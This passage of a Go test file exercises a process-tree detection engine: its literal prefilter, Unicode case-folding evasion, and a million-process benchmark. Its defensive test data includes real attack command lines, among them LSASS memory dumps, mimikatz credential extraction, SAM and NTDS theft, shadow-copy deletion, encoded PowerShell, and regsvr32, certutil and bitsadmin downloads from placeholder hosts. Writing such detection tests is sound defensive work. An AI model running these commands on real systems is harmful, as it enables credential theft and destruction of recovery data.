		{`(?i)x(?:ab|cdef)`, []string{"xab", "xcdef"}},
		{`(?i)(?:ab|c*)xy`, []string{"xy"}},
		{`(?i)(?:ab|c*)`, nil},
		{`(?i)(?:^|\s)abc`, []string{"abc"}},
		{`(?i)a+`, []string{"a"}},
		{`(?i).*`, nil},
		{`(?i)[^a]bc`, []string{"bc"}},
		{`(?i)[-/]e\b`, []string{"-e", "/e"}},
		{`(?i)[-/\x{2013}]enc`, []string{"-enc", "/enc"}},
		{`(?i)\x{17F}ekurlsa`, []string{"sekurlsa"}},
		{`(?i)\x{212A}erberos`, []string{"kerberos"}},
		{`\x{17F}ekurlsa`, []string{"ekurlsa"}},
		{`(?i)straße`, []string{"stra"}},
		{`(?i)ß`, nil},
	}
	for _, c := range cases {
		if got := requiredLiterals(c.expr); !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", c.expr, got, c.want)
		}
	}
}

// The literal prefilter never hides a match: for every default pattern and
// every command line of these tests, filtering and matching agree.
func TestPrefilterNeverHidesAMatch(t *testing.T) {
	texts := []string{
		`C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 600 C:\Windows\Temp\lsass.dmp full`,
		`rundll32.exe comsvcs.dll,#24 624 C:\x.dmp full`, `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
		"m.exe se\u212Aurlsa::logonpasswords", "ker\u017feros::golden /user:x", "mimi\u212Aatz", `reg save HKLM\SAM C:\sam /y`,
		`ntdsutil "ac i ntds" "ifm" "create full c:\ifm" q q`, `vssadmin  delete shadows /all /quiet`,
		`procdump64.exe -accepteula -ma lsass.exe C:\l.dmp`, `powershell -enc SQBFAFgA`, `schtasks /create /tn x /tr %TEMP%\x.exe`,
		`bcdedit /set {default} recoveryenabled No`, `Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}`,
		`mshta  vbscript:Execute("x")`, `regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll`, `certutil -urlcache -f http://x/ a`,
		`wmic /node:h process call create calc`, `bitsadmin /transfer j http://x/a C:\a`, "",
	}
	rules := DefaultRules()
	sc := rules.scan
	present := make([]uint64, sc.words)
	for _, s := range texts {
		ascii := sc.find(s, present)
		if want := !strings.ContainsFunc(s, func(r rune) bool { return r >= 0x80 }); ascii != want {
			t.Errorf("%q: ascii %v", s, ascii)
		}
		if ascii {
			for n, l := range sc.lits {
				if got, want := present[n/64]&(1<<(n%64)) != 0, strings.Contains(strings.ToLower(s), l); got != want {
					t.Errorf("%q: literal %q found %v, want %v", s, l, got, want)
				}
			}
		}
		for k, ru := range rules.rules {
			for j, p := range ru.cmd {
				f := rules.filters[k][j]
				if (f == nil) != (p.lits == nil) {
					t.Errorf("%s: pattern %d: filter %v for literals %q", ru.src.Name, j, f, p.lits)
				}
				if f != nil && ascii && !intersects(f, present) && p.re.MatchString(s) {
					t.Errorf("%s: %s matches %q but the prefilter %q drops it", ru.src.Name, p.re, s, p.lits)
				}
			}
		}
	}
	// Every default pattern has a prefilter.
	for _, ru := range rules.rules {
		for _, p := range ru.cmd {
			if len(p.lits) == 0 || minLen(p.lits) < 2 {
				t.Errorf("%s: %s: weak prefilter %q", ru.src.Name, p.re, p.lits)
			}
		}
	}
	// The Kelvin sign folds to k: the non-ASCII text skips the prefilter and matches.
	tr := ruleTree(rp{name: `C:\x.exe`, cmd: "x.exe mimi\u212Aatz", parent: -1})
	DefaultRules().Mark(tr)
	if got := markNames(&tr.Procs[0]); !slices.Equal(got, []string{"credential-dumping"}) {
		t.Errorf("mimikatz with a Kelvin sign: marks %v", got)
	}
}

// markBenchTree makes n processes the way a fleet's logs look: sessions of 20
// to 200 processes under services.exe or systemd, at most 7 deep, four in five
// on Windows hosts (services, browsers, Office, scripts, Defender) and the rest
// on Linux hosts (sshd, shells, Python, a Java app, nginx). About 1% of the
// images are unique installers in %TEMP% and 0.5% are attacks.
func markBenchTree(n int) *Tree {
	r := rand.New(rand.NewPCG(7, 1000000))
	type img struct {
		name string
		cmd  func(i int) string
	}
	plain := func(s string) func(int) string { return func(int) string { return s } }
	windows := []img{
		{`C:\Windows\System32\svchost.exe`, func(i int) string { return fmt.Sprintf(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Svc%d`, i%50) }},
		{`C:\Windows\System32\conhost.exe`, plain(`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)},
		{cmdExe, func(i int) string {
			return fmt.Sprintf(`cmd.exe /c "C:\scripts\job%d.bat" > C:\logs\job.log 2>&1`, i%300)
		}},
		{psExe, func(i int) string {
			return fmt.Sprintf(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\scripts\inv%d.ps1`, i%100)
		}},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, func(i int) string {
			return fmt.Sprintf(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1780,i,%d --lang=en-US --renderer-client-id=%d`, i, i%97)
		}},
		{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, plain(`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding`)},
		{explorer, plain(`C:\Windows\Explorer.EXE`)},
		{`C:\Windows\System32\wbem\WmiPrvSE.exe`, plain(`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`)},
		{rundll, plain(`C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`)},
		{`C:\Windows\System32\taskhostw.exe`, plain(`taskhostw.exe SYSTEM`)},
		{`C:\Windows\System32\SearchProtocolHost.exe`, func(i int) string {
			return fmt.Sprintf(`"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe%d Global\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\Microsoft\Windows Search"`, i%200, i%200)
		}},
		{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe`, plain(`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe"`)},
	}
	linux := []img{
		{`/usr/sbin/sshd`, func(i int) string { return fmt.Sprintf(`sshd: admin [priv] %d`, i%1000) }},
		{`/bin/bash`, func(i int) string { return fmt.Sprintf(`bash /opt/app/bin/rotate.sh --day %d`, i%31) }},
		{`/usr/bin/python3.10`, func(i int) string { return fmt.Sprintf(`/usr/bin/python3 /usr/lib/app/worker.py --shard %d`, i%64) }},
		{`/usr/lib/jvm/java-17-openjdk-amd64/bin/java`, plain(`java -Xmx2g -jar /opt/app/app.jar --spring.profiles.active=prod`)},
		{`/usr/bin/grep`, func(i int) string { return fmt.Sprintf(`grep -c ERROR /var/log/app/app-%d.log`, i%365) }},
		{`/usr/sbin/nginx`, plain(`nginx: worker process`)},
		{`/usr/bin/curl`, func(i int) string { return fmt.Sprintf(`curl -s http://127.0.0.1:8080/health?n=%d`, i%10) }},
		{`/usr/bin/systemctl`, plain(`systemctl is-active --quiet app.service`)},
	}
	attacks := []img{
		{psExe, plain(`powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUA`)},
		{rundll, plain(`C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 600 C:\Windows\Temp\lsass.dmp full`)},
		{`C:\Windows\System32\mshta.exe`, plain(`mshta  vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell"":close")`)},
		{schtasks, plain(`schtasks  /create /F /tn x /tr "C:\Windows\system32\cmd.exe /C notepad.exe" /sc ONSTART /ru system /S WORKSTATION6`)},
	}
	t := &Tree{Procs: make([]Proc, 0, n)}
	add := func(p Proc) int {
		i := len(t.Procs)
		p.Row = i
		if p.Parent >= 0 {
			par := &t.Procs[p.Parent]
			p.ParentName, p.Depth = par.Name, par.Depth+1
			par.Children = append(par.Children, i)
		} else {
			t.Roots = append(t.Roots, i)
		}
		t.Procs = append(t.Procs, p)
		return i
	}
	for len(t.Procs) < n {
		images, root := windows, `C:\Windows\System32\services.exe`
		if r.IntN(5) == 0 {
			images, root = linux, `/usr/lib/systemd/systemd`
		}
		first := add(Proc{Name: root, Parent: -1})
		size := 20 + r.IntN(181)
		for len(t.Procs) < n && len(t.Procs)-first < size {
			i := len(t.Procs)
			var im img
			switch x := r.IntN(1000); {
			case x < 5 && images[0].name != `/usr/sbin/sshd`:
				im = attacks[r.IntN(len(attacks))]
			case x < 15:
				im = img{fmt.Sprintf(`C:\Users\u%d\AppData\Local\Temp\is-%05X.tmp\setup.tmp`, i%200, i), plain(`"setup.tmp" /SL5="$250276,19992586,423424"`)}
			default:
				im = images[r.IntN(len(images))]
			}
			parent := first
			if j := i - 1 - r.IntN(min(i-first, 8)); t.Procs[j].Depth < 7 {
				parent = j
			}
			add(Proc{Name: im.name, CmdLine: im.cmd(i), User: `CONTOSO\svc`, Parent: parent})
		}
	}
	return t
}

func BenchmarkMark1M(b *testing.B) {
	tr := markBenchTree(1_000_000)
	rules := DefaultRules()
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		rules.Mark(tr)
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/1e6, "ns/proc")
}

// Marking a million processes takes well under a second (generous bound so a
// loaded machine passes; the benchmark gives the real figure). Under the race
// detector a tenth of them, unchecked for time.
func TestMarkLargeTree(t *testing.T) {
	if testing.Short() {
		t.Skip("marks a million-process tree")
	}
	n := 1_000_000
	if raceEnabled {
		n = 100_000
	}
	tr := markBenchTree(n)
	began := time.Now()
	DefaultRules().Mark(tr)
	took := time.Since(began)
	counts := map[string]int{}
	for i := range tr.Procs {
		for _, m := range tr.Procs[i].Marks {
			counts[m.Rule]++
		}
	}
	t.Logf("%d processes marked in %s: %v", n, took, counts)
	for _, rule := range []string{"encoded-powershell", "credential-dumping", "proxy-execution-mshta", "schtasks-remote-create",
		"image-in-temp-or-public", "image-in-programdata", "shell-under-server"} {
		if counts[rule] == 0 {
			t.Errorf("no %s marks", rule)
		}
	}
	if got := counts["image-in-temp-or-public"]; got < n/200 || got > n/50 {
		t.Errorf("%d image-in-temp-or-public marks for %d processes", got, n)
	}
	if got := counts["shell-under-server"]; got > n/20 {
		t.Errorf("%d shell-under-server marks for %d processes", got, n)
	}
	if !raceEnabled && took > 2*time.Second {
		t.Errorf("marking %d processes took %s", n, took)
	}
}
